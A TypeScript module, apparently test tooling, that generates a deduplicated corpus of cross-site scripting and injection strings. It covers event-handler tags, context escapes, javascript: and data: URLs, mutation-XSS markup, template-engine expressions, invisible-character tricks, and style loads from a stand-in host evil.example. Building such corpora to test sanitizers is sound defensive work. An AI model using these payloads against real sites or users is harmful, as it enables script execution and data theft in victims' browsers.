// Texts that want to be more than text. Each tries to run a script, to fetch from elsewhere, to lead to an address
// that runs something, or to get out of the place it is shown in. `corpus()` is all of them, each once.

/** What runs, if anything does. */
const RUN = 'alert(1)';

/** Nothing is ever asked of it: whoever does is found out. */
const AWAY = '//evil.example/x';

/** Elements that run something by themselves, `@` standing for what runs. */
const CARRIERS = [
  '<img src=x onerror=@>',
  '<img src=x: onerror="@" alt="a picture">',
  '<svg onload=@>',
  '<svg/onload=@//',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributename=x>',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<iframe onload=@>',
  '<iframe srcdoc="<img src=x onerror=@>">',
  '<object data=x onerror=@>',
  '<embed src=x onload=@>',
  '<video><source onerror=@></video>',
  '<video src=x onerror=@ autoplay>',
  '<audio src=x onerror=@ autoplay>',
  '<details open ontoggle=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<button autofocus onfocus=@>b</button>',
  '<a href=x autofocus onfocus=@ tabindex=0>a</a>',
  '<p contenteditable autofocus onfocus=@>',
  '<marquee onstart=@>m</marquee>',
  '<style onload=@></style>',
  '<link rel=stylesheet href=data:, onload=@>',
  '<script>@</script>',
  '<script src=x onerror=@></script>',
  '<div style="position:fixed;inset:0" onpointerenter=@>d</div>',
  '<dialog open onclose=@><form method=dialog><button autofocus>x',
  '<xss style="animation:arrive 1s" onanimationstart=@>',
];

/** How a carrier gets out of where it is put. */
const ESCAPES: Array<(carrier: string) => string> = [
  (carrier) => carrier,
  (carrier) => `">${carrier}`,
  (carrier) => `'>${carrier}`,
  (carrier) => `</textarea>${carrier}`,
  (carrier) => `</title></style></script>${carrier}`,
  (carrier) => `-->${carrier}`,
  (carrier) => `<!--><!--${carrier}-->`,
  (carrier) => `]]>${carrier}`,
  (carrier) => carrier.replace(/<(\w+)/gu, (_, name: string) => `<${mixed(name)}`),
  (carrier) => carrier.replace(/ /gu, '/'),
  (carrier) => carrier.replace(/ /gu, '\n'),
  (carrier) => carrier.replace(/=(?=[a-z@])/gu, ' =\t'),
  (carrier) => carrier.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (carrier) => carrier.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (carrier) => encodeURIComponent(carrier),
  (carrier) => carrier.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (carrier) => carrier.replaceAll('<', '＜').replaceAll('>', '＞'),
  (carrier) => `**${carrier}**`,
  (carrier) => `\`${carrier}`,
  (carrier) => `> ${carrier}\n\n- ${carrier}`,
];

/** Addresses that run something or lead where nobody meant to go. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `\u200Bjavascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://example.org/%0A${RUN}`,
  `javascript:/*--></script>*/${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://example.org/${RUN}`,
  `view-source:javascript:${RUN}`,
  `file:///etc/passwd`,
  `\\\\evil.example\\x`,
  `https://example.org"onmouseover="${RUN}`,
  `https://example.org/'><img src=x onerror=${RUN}>`,
  `mailto:a@example.org?body=<img src=x onerror=${RUN}>`,
];

/** Ways to write an address, `@` standing for it. */
const LINKS = [
  '@',
  '[press me](@)',
  '[press me](<@>)',
  '[press me](@ "title")',
  '![press me](@)',
  '<@>',
  '[press me][1]\n\n[1]: @',
  '[![x](@)](@)',
  '<a href="@">press me</a>',
  '<form action="@"><button>press me',
  '<iframe src="@">',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<svg><a xlink:href="@"><text y=9>press me',
];

/** Markup that changes its meaning when it is read a second time. */
const MUTATIONS = [
  '<noscript><p title="</noscript>@">',
  '<math><mtext><table><mglyph><style><!--</style>@',
  '<math><mi><table><mglyph><style><math>@',
  '<svg></p><style><a id="</style>@">',
  '<svg><style><img title="</style>@"></svg>',
  '<form><math><mtext></form><form><mglyph><style></math>@',
  '<template><s><template><s>@</s></template></s></template>',
  '<select><noembed></select><script>x=`@`</script>',
  '<xmp><p title="</xmp>@">',
  '<noembed><p title="</noembed>@">',
  '<listing>&lt;/listing&gt;@</listing>',
  '<plaintext>@',
  '<table><td><svg><desc><td>@',
  '<svg><foreignObject><math><mi><svg>@',
  '<math><annotation-xml encoding="text/html">@',
  '<b><form><i></b>@',
  '<p><svg><title><style>@</style></title>',
  '<iframe><!--</iframe>@-->',
  '<textarea><!--</textarea>@-->',
  '<title>&lt;/title&gt;@</title>',
];

/** What template engines, and our own words, would take for a blank to fill in. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% raw %}${RUN}{% endraw %}`,
  `@{${RUN}}`,
  `[[\${${RUN}}]]`,
  '{name}',
  '{count, plural, one {# message} other {# messages}}',
  "'{name}'",
  '{',
  '}{',
  '{name',
  '{0}{1}{2}',
  '<b>{name}</b>',
  '</b><b>',
  '<one>press me</one>',
  '$t(app.klatch)',
  '%s%n%d%@',
  "$&$1$`$'",
  '\\0\\x41\\u{41}',
  `<div v-html="'<img src=x onerror=${RUN}>'">`,
  `<div x-data x-init="${RUN}">`,
  `<div hx-on:load="${RUN}">`,
  `<div ng-app>{{1+1}}`,
  `'autofocus='onfocus='alert\`1\`'`,
  `'/onmouseover='alert\`1\`'/style='position:fixed'`,
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
];

/** What is there but not seen, or turns what is seen around. */
const INVISIBLE = [
  `\u202E>)1(trela=rorreno x=crs gmi<`,
  `\u202Dleft\u202Eright\u2066in\u2069out`,
  `<\u200Bimg src=x onerror=${RUN}>`,
  `<img\u2028src=x\u2029onerror=${RUN}>`,
  `<img\u00A0src=x\u00A0onerror=${RUN}>`,
  `\uFEFF<script>${RUN}</script>`,
  `\uFDD00\uFDD1<img src=x onerror=${RUN}>`,
  `[x](\uFDD00\uFDD1)`,
  `\uFFF9a\uFFFA<svg onload=${RUN}>\uFFFB`,
  `\u{E0001}\u{E0061}\u{E0062}`,
  `\u200D\u200D\u200D`,
  `\u3164\u115F\u1160`,
  `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B`,
  `\u05D0\u05D1 <b onclick=${RUN}> \u0627\u0644`,
  `\uD83D\uDC69\u200D\uD83D\uDCBB<svg onload=${RUN}>`,
];

/** What fetches or draws by style alone. */
const STYLES = [
  `<style>@import '${AWAY}'</style>`,
  `<div style="background:url(${AWAY})">s</div>`,
  `<div style="width:expression(${RUN})">s</div>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<link rel=dns-prefetch href=${AWAY}>`,
  `<img src=${AWAY}>`,
  `<img srcset="${AWAY} 2x">`,
  `<video poster=${AWAY}>`,
  `<input type=image src=${AWAY}>`,
  `<svg><image href=${AWAY} /></svg>`,
  `<svg><use href="${AWAY}#a"/></svg>`,
  `<math href="javascript:${RUN}">press me</math>`,
  `<script type=module>import '${AWAY}'</script>`,
  `<script>fetch('${AWAY}')</script>`,
  `![x](https:${AWAY})`,
];

/** All of them, each once. */
export function corpus(): string[] {
  const carried = CARRIERS.flatMap((carrier) =>
    ESCAPES.map((written) => written(carrier).replaceAll('@', RUN)),
  );
  const linked = ADDRESSES.flatMap((address) => LINKS.map((link) => link.replaceAll('@', address)));
  const mutated = MUTATIONS.flatMap((mutation) =>
    [CARRIERS[0], CARRIERS[2], CARRIERS[25]].map((carrier = '') =>
      mutation.replaceAll('@', carrier.replaceAll('@', RUN)),
    ),
  );
  return [...new Set([...carried, ...linked, ...mutated, ...TEMPLATES, ...INVISIBLE, ...STYLES])];
}

/** So many of them, from every family alike. */
export function some(count: number): string[] {
  const all = corpus();
  const step = all.length / count;
  return Array.from({ length: count }, (_, at) => all[Math.floor(at * step)] ?? '');
}

function mixed(name: string): string {
  return [...name].map((sign, at) => (at % 2 ? sign : sign.toUpperCase())).join('');
}
